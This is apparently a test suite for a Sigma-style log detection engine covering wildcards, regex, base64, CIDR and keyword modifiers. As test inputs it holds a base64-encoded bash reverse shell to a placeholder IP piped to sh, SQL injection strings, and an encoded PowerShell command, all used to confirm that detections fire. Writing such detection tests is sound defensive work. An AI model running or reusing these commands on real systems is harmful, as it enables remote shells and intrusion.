import { describe, expect, it } from 'vitest';
import { detectionFrom, zeekEvent, zeekRule } from './test-support.ts';

/** Whether a one-selection rule matches an event with these extra fields. */
function hits(selection: string, extra: Record<string, unknown>, raw?: string): boolean {
  const d = detectionFrom(zeekRule(`sel:\n${selection.replace(/^/gm, '  ')}\ncondition: sel`));
  return d.match(zeekEvent(extra, raw === undefined ? {} : { raw })) !== null;
}

function skipReason(selection: string): string {
  try {
    detectionFrom(zeekRule(`sel:\n${selection.replace(/^/gm, '  ')}\ncondition: sel`));
  } catch (err) {
    return (err as Error).message;
  }
  return '(loaded)';
}

describe('values and wildcards', () => {
  it('matches whole values, case-insensitively by default', () => {
    expect(hits('f: admin', { f: 'ADMIN' })).toBe(true);
    expect(hits('f: admin', { f: 'administrator' })).toBe(false);
    expect(hits('f: 404', { f: 404 })).toBe(true);
    expect(hits('f: 404', { f: '404' })).toBe(true);
    expect(hits('f: true', { f: true })).toBe(true);
    expect(hits("f: ''", { f: '' })).toBe(true);
    expect(hits("f: ''", {})).toBe(false);
  });

  it('lists are OR, maps are AND', () => {
    expect(hits('f: [a, b]', { f: 'b' })).toBe(true);
    expect(hits('f: [a, b]', { f: 'c' })).toBe(false);
    expect(hits('f: a\ng: b', { f: 'a', g: 'b' })).toBe(true);
    expect(hits('f: a\ng: b', { f: 'a', g: 'x' })).toBe(false);
    expect(hits('- f: a\n- g: b', { g: 'b' })).toBe(true);
    expect(hits('- f: a\n- g: b', { f: 'x', g: 'x' })).toBe(false);
  });

  it('* and ? are wildcards, and a backslash escapes them', () => {
    expect(hits("f: 'adm*'", { f: 'administrator' })).toBe(true);
    expect(hits("f: '*.php'", { f: '/x/shell.PHP' })).toBe(true);
    expect(hits("f: 'a?c'", { f: 'abc' })).toBe(true);
    expect(hits("f: 'a?c'", { f: 'ac' })).toBe(false);
    expect(hits("f: 'a?c'", { f: 'a😀c' })).toBe(true);
    expect(hits("f: 'what\\?'", { f: 'what?' })).toBe(true);
    expect(hits("f: 'what\\?'", { f: 'whatX' })).toBe(false);
    expect(hits("f: 'a\\*b'", { f: 'a*b' })).toBe(true);
    expect(hits("f: 'a\\*b'", { f: 'axxb' })).toBe(false);
    // A backslash before anything else is itself; \\ is one backslash, \\* a backslash then a wildcard.
    expect(hits("f: 'C:\\Windows\\System32'", { f: 'c:\\windows\\system32' })).toBe(true);
    expect(hits("f: 'C:\\\\Windows'", { f: 'C:\\Windows' })).toBe(true);
    expect(hits("f: 'dir\\\\*'", { f: 'dir\\anything' })).toBe(true);
    expect(hits("f: 'dir\\\\*'", { f: 'dirx' })).toBe(false);
    expect(hits("f: 'a.c'", { f: 'abc' })).toBe(false);
  });

  it('|cased makes values case-sensitive', () => {
    expect(hits('f|cased: Admin', { f: 'Admin' })).toBe(true);
    expect(hits('f|cased: Admin', { f: 'admin' })).toBe(false);
    expect(hits('f|contains|cased: SELECT', { f: 'x select y' })).toBe(false);
    expect(hits('f|contains|cased: SELECT', { f: 'x SELECT y' })).toBe(true);
  });

  it('null matches a missing field, |exists tests presence', () => {
    expect(hits('f: null', {})).toBe(true);
    expect(hits('f: null', { f: 'x' })).toBe(false);
    expect(hits('f: null', { f: null })).toBe(true);
    expect(hits('f|exists: true', { f: '' })).toBe(true);
    expect(hits('f|exists: true', {})).toBe(false);
    expect(hits('f|exists: false', {})).toBe(true);
    expect(hits('f|exists: false', { f: 1 })).toBe(false);
    expect(skipReason('f|exists: yes')).toMatch(/exists takes true or false/);
  });

  it('list-valued fields match when one element does', () => {
    expect(hits('answers: 198.51.100.66', { answers: ['10.0.0.1', '198.51.100.66'] })).toBe(true);
    expect(hits('answers: 198.51.100.7', { answers: ['10.0.0.1'] })).toBe(false);
  });

  it('does not read inherited properties of extra as fields', () => {
    expect(hits('constructor|exists: true', {})).toBe(false);
    expect(hits("toString: '*'", {})).toBe(false);
  });
});

describe('string modifiers', () => {
  it('contains, startswith, endswith', () => {
    expect(hits('f|contains: union select', { f: '/?id=1 UNION SELECT 1' })).toBe(true);
    expect(hits('f|contains: union select', { f: '/?id=1' })).toBe(false);
    expect(hits('f|startswith: /admin', { f: '/ADMIN/login' })).toBe(true);
    expect(hits('f|startswith: /admin', { f: '/x/admin' })).toBe(false);
    expect(hits('f|endswith: .sh', { f: '/tmp/x.sh' })).toBe(true);
    expect(hits('f|endswith: .sh', { f: '/tmp/x.sh.txt' })).toBe(false);
    expect(hits("f|contains: 'a*c'", { f: 'xxabbbcxx' })).toBe(true);
  });

  it('all: every value must match', () => {
    expect(hits('f|contains|all: [union, select]', { f: 'union all select' })).toBe(true);
    expect(hits('f|contains|all: [union, select]', { f: 'union all' })).toBe(false);
  });

  it('windash: a leading dash or slash stands for any dash', () => {
    expect(hits("f|windash|contains: ' -enc '", { f: 'powershell /enc abc' })).toBe(true);
    expect(hits("f|windash|contains: ' -enc '", { f: 'powershell \u2013enc abc' })).toBe(true);
    expect(hits("f|windash|contains: ' -enc '", { f: 'powershell -enc abc' })).toBe(true);
    expect(hits("f|windash|contains: ' -enc '", { f: 'powershell +enc abc' })).toBe(false);
    // Only a dash that starts a word: the one inside `no-profile` stays a dash.
    expect(hits("f|windash: '-no-profile'", { f: '/no-profile' })).toBe(true);
    expect(hits("f|windash: '-no-profile'", { f: '-no/profile' })).toBe(false);
  });

  it('re, with i, m and s sub-modifiers', () => {
    expect(hits("f|re: 'id=\\d+ (and|or) '", { f: '/x?id=1 or 1=1' })).toBe(true);
    expect(hits("f|re: 'id=\\d+ (and|or) '", { f: '/x?id=1 OR 1=1' })).toBe(false);
    expect(hits("f|re|i: 'id=\\d+ (and|or) '", { f: '/x?id=1 OR 1=1' })).toBe(true);
    expect(hits("f|re: '^b$'", { f: 'a\nb' })).toBe(false);
    expect(hits("f|re|m: '^b$'", { f: 'a\nb' })).toBe(true);
    expect(hits("f|re: 'a.b'", { f: 'a\nb' })).toBe(false);
    expect(hits("f|re|s: 'a.b'", { f: 'a\nb' })).toBe(true);
    expect(skipReason("f|re: '(unclosed'")).toMatch(/invalid regular expression/);
    expect(skipReason('f|i: x')).toMatch(/sub-modifier of "re"/);
  });

  it('base64 and base64offset find an encoded value (checked against real Base64)', () => {
    const b64 = (s: string): string => Buffer.from(s).toString('base64');
    expect(b64('/bin/bash -i')).toBe('L2Jpbi9iYXNoIC1p');
    expect(hits("f|base64: '/bin/bash -i'", { f: b64('/bin/bash -i') })).toBe(true);
    expect(hits("f|base64|contains: '/bin/bash -i'", { f: `echo ${b64('/bin/bash -i')} | base64 -d` })).toBe(true);
    expect(hits("f|base64: '/bin/bash -i'", { f: b64('/bin/sh -i') })).toBe(false);
    // At every offset inside a longer encoded command.
    for (const prefix of ['', 'x', 'xy', 'bash -c "', 'sh -c "(']) {
      const encoded = b64(`${prefix}/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`);
      expect(hits("f|base64offset|contains: '/bin/bash -i'", { f: `echo ${encoded} | base64 -d | sh` }), prefix).toBe(true);
      expect(hits("f|base64offset|contains: '/bin/zsh -i'", { f: `echo ${encoded}` }), prefix).toBe(false);
    }
    // Base64 is case-sensitive: the lower-cased text is not a match.
    expect(hits("f|base64offset|contains: '/bin/bash -i'", { f: b64('x/bin/bash -i').toLowerCase() })).toBe(false);
    expect(skipReason("f|base64: 'a*'")).toMatch(/plain value without wildcards/);
  });

  it('utf16le/wide, utf16be and utf16 encode before base64', () => {
    const wide = Buffer.from('whoami', 'utf16le').toString('base64');
    expect(hits("f|wide|base64offset|contains: 'whoami'", { f: `powershell -enc ${wide}` })).toBe(true);
    expect(hits("f|utf16le|base64: 'whoami'", { f: wide })).toBe(true);
    expect(hits("f|utf16be|base64: 'ab'", { f: Buffer.from([0, 0x61, 0, 0x62]).toString('base64') })).toBe(true);
    expect(hits("f|utf16|base64: 'ab'", { f: Buffer.from([0xff, 0xfe, 0x61, 0, 0x62, 0]).toString('base64') })).toBe(true);
    expect(skipReason("f|wide: 'x'")).toMatch(/only works with base64/);
  });
});

describe('typed modifiers', () => {
  it('cidr for IPv4 and IPv6', () => {
    expect(hits('f|cidr: 10.0.0.0/8', { f: '10.20.30.40' })).toBe(true);
    expect(hits('f|cidr: 10.0.0.0/8', { f: '11.0.0.1' })).toBe(false);
    expect(hits('f|cidr: 172.16.0.0/12', { f: '172.31.255.1' })).toBe(true);
    expect(hits('f|cidr: 172.16.0.0/12', { f: '172.32.0.1' })).toBe(false);
    expect(hits('f|cidr: [192.168.0.0/16, 2001:db8::/32]', { f: '2001:DB8:0:1::42' })).toBe(true);
    expect(hits('f|cidr: 2001:db8::/32', { f: '2001:db9::1' })).toBe(false);
    expect(hits('f|cidr: 2001:db8::/32', { f: '10.0.0.1' })).toBe(false);
    expect(hits('f|cidr: ::ffff:0:0/96', { f: '::ffff:10.0.0.1' })).toBe(true);
    expect(hits('f|cidr: 10.0.0.0/8', { f: 'not an ip' })).toBe(false);
    expect(skipReason('f|cidr: 10.0.0.0/33')).toMatch(/not an IPv4 or IPv6 network/);
  });

  it('lt, lte, gt, gte compare numbers', () => {
    expect(hits('f|lt: 400', { f: 399 })).toBe(true);
    expect(hits('f|lt: 400', { f: 400 })).toBe(false);
    expect(hits('f|lte: 400', { f: '400' })).toBe(true);
    expect(hits('f|lte: 400', { f: 401 })).toBe(false);
    expect(hits('f|gt: 1000', { f: 1000.5 })).toBe(true);
    expect(hits('f|gt: 1000', { f: 1000 })).toBe(false);
    expect(hits('f|gte: 1000', { f: 1000 })).toBe(true);
    expect(hits('f|gte: 1000', { f: 'lots' })).toBe(false);
    expect(hits('f|gte: 1000', {})).toBe(false);
    expect(skipReason('f|gt: many')).toMatch(/gt needs a number/);
  });

  it('neq: present and different', () => {
    expect(hits('f|neq: GET', { f: 'POST' })).toBe(true);
    expect(hits('f|neq: GET', { f: 'get' })).toBe(false);
    expect(hits('f|neq: 200', { f: 200 })).toBe(false);
    expect(hits('f|neq: 200', {})).toBe(false);
    // Lists keep Sigma's OR; `all` asks for none of them.
    expect(hits('f|neq|all: [GET, HEAD]', { f: 'HEAD' })).toBe(false);
    expect(hits('f|neq|all: [GET, HEAD]', { f: 'POST' })).toBe(true);
  });

  it('fieldref compares two fields, alone or with contains/startswith/endswith and neq', () => {
    expect(hits('a|fieldref: b', { a: 'Root', b: 'root' })).toBe(true);
    expect(hits('a|fieldref: b', { a: 'root', b: 'alice' })).toBe(false);
    expect(hits('a|fieldref: b', { a: 'root' })).toBe(false);
    expect(hits('a|fieldref|cased: b', { a: 'Root', b: 'root' })).toBe(false);
    expect(hits('a|fieldref|contains: b', { a: '/home/alice/x', b: 'alice' })).toBe(true);
    expect(hits('a|fieldref|startswith: b', { a: '/home/alice/x', b: 'alice' })).toBe(false);
    expect(hits('a|fieldref|endswith: b', { a: '/home/alice', b: 'alice' })).toBe(true);
    expect(hits('a|fieldref|neq: b', { a: 'root', b: 'alice' })).toBe(true);
    expect(hits('a|fieldref|neq: b', { a: 'root', b: 'root' })).toBe(false);
  });

  it('refuses what it cannot honour, naming the entry', () => {
    expect(skipReason('f|frobnicate: x')).toMatch(/"f\|frobnicate": unknown modifier "frobnicate"/);
    expect(skipReason("f|expand: '%Servers%'")).toMatch(/modifier "expand" is not supported/);
    expect(skipReason('f|hour: 3')).toMatch(/time-part modifiers are not supported/);
    expect(skipReason('f|re|contains: x')).toMatch(/cannot be combined/);
    expect(skipReason('f|cidr|lt: 3')).toMatch(/cannot be combined/);
    expect(skipReason('f|contains|startswith: x')).toMatch(/cannot follow/);
    expect(skipReason('f|contains: null')).toMatch(/null cannot be combined/);
    expect(skipReason('f|contains|base64: x')).toMatch(/must come before/);
  });
});

describe('keywords', () => {
  const keywordRule = (kw: string): string =>
    `title: k\nid: k1\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n${kw}\n  condition: keywords\n`;
  const sshd = (raw: string) => ({ id: 1, ts: 0, dataset: 'sshd', raw });

  it('match anywhere in the raw line, case-insensitively, a list being OR', () => {
    const d = detectionFrom(keywordRule("  keywords:\n    - 'Failed password'\n    - 'Invalid user * from'"));
    expect(d.match(sshd('Mar 1 sshd[1]: FAILED PASSWORD for root'))).not.toBeNull();
    expect(d.match(sshd('Mar 1 sshd[1]: Invalid user bob from 1.2.3.4'))).not.toBeNull();
    expect(d.match(sshd('Mar 1 sshd[1]: Accepted password for root'))).toBeNull();
    expect(d.match(sshd('Mar 1 sshd[1]: FAILED PASSWORD for root'))?.values).toEqual([{ field: null, value: 'Failed password' }]);
  });

  it("'|all' asks for every keyword", () => {
    const d = detectionFrom(keywordRule("  keywords:\n    '|all':\n      - 'session opened'\n      - 'root'"));
    expect(d.match(sshd('pam_unix(sshd:session): session opened for user root'))).not.toBeNull();
    expect(d.match(sshd('pam_unix(sshd:session): session opened for user bob'))).toBeNull();
  });
});
